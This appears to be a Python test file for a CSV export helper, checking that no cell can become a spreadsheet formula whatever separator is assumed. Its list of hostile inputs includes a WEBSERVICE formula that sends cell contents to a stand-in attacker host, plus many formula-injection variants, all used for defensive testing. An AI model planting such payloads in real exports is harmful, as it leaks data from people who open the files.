"""CSV for spreadsheets: no cell is a formula, with any separator that the spreadsheet assumes."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.presentation.spreadsheets.csv_cells import JsonText, csv_line

FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
IGNORED_BEFORE_FORMULA = ' \t\r\n\xa0\u200b\ufeff"'
HOSTILE_TEXTS = [
    'Mozilla/5.0;=WEBSERVICE("https://evil.example/"&A1)',
    '"=1+1',
    'x;"=1+1',
    'x;""=1+1',
    'x;"";"=1',
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    "  =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "a,=1+1",
    "a|=1+1",
    "a; ;  +1",
    "-",
    "'=1",
    "a\x00;\x1b=1",
    "a\u2028=1;\u202e=1",
]
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text('=+-@;,"\\ \tab|\uff1d'),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text('=-;"a'), children, max_size=3),
    max_leaves=6,
)


def cells(line: bytes, separator: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(line.decode(), newline=""), delimiter=separator) for cell in row]


def has_formula(line: bytes) -> bool:
    return any(
        cell.lstrip(IGNORED_BEFORE_FORMULA).startswith(FORMULA_STARTS)
        for separator in ";,\t|"
        for cell in cells(line, separator)
    )


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=ascii)
def test_hostile_text_is_no_formula(text: str) -> None:
    """This holds at any place in the line, and inside JSON."""
    for values in [
        (text,),
        ("a", text),
        (text, text),
        (1, JsonText.of(text), text),
        (JsonText.of({text: [text, -1]}),),
    ]:
        assert not has_formula(csv_line(values))


@given(
    st.lists(
        st.text("=+-@;,\"'\\ \t\n|ab\uff1d\uff0d\u202e\x9b") | json_values.map(JsonText.of), min_size=1, max_size=4
    )
)
def test_random_cells_are_no_formulas(values: list[Any]) -> None:
    """The texts combine separators, quotes, spaces and formula characters."""
    line = csv_line(tuple(values))
    assert not has_formula(line)
    assert len(cells(line, ",")) == len(values)


@given(json_values)
def test_json_cells_keep_their_value(value: Any) -> None:
    """A program that reads the file only has to remove the apostrophe in front of a negative number."""
    (cell,) = cells(csv_line((JsonText.of(value),)), ",")
    assert json.loads(cell.removeprefix("'")) == value


@pytest.mark.parametrize(
    "text", ["Maria Rossi", "O'Brien-Smith", "a - b", "x = y", "2026-05-01T00:00:00+00:00", "me@a.it"]
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    """Formula characters inside a text are harmless."""
    assert cells(csv_line((text, 1, None)), ",") == [text, "1", ""]
